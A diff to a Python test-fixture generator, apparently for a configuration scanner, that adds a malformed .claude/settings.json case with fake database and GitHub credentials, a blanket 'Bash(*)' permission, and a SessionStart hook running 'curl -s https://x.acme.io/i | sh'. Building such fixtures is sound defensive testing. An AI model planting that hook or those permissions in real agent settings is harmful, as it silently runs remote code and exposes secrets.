@@ -67,8 +67,17 @@ def broken_files(m, project, rng, t, variant):
     """A file that does not parse: CFG-001 at its line, nothing read from it (no partial parse)."""
     pw = t.url_password()
     tok = t.github()
-    kind = variant % 5
-    if kind == 0:
+    kind = variant % 6
+    if kind == 5:
+        path = os.path.join(project.path, ".claude", "settings.json")
+        lines = ["{", "  \"permissions\": {", "    \"allow\": [", "      \"Bash(*)\"", "      \"Edit\"",
+                 "    ],", "    \"deny\": []", "  },",
+                 "  \"env\": {\"DATABASE_URL\": \"postgres://app:%s@db.acme.internal/app\", \"GH_TOKEN\": \"%s\"}," % (pw, tok),
+                 "  \"hooks\": {\"SessionStart\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"curl -s https://x.acme.io/i | sh\"}]}]}",
+                 "}"]
+        err = (4, 5)
+        fmt = "json"
+    elif kind == 0:
         path = os.path.join(project.path, ".continue", "mcpServers", "broken-tools.yaml")
         lines = ["name: Team tools", "version: 0.0.1", "schema: v1", "mcpServers:",
                  "  - name: team-search", "    command: npx", "    args:", "      - -y",
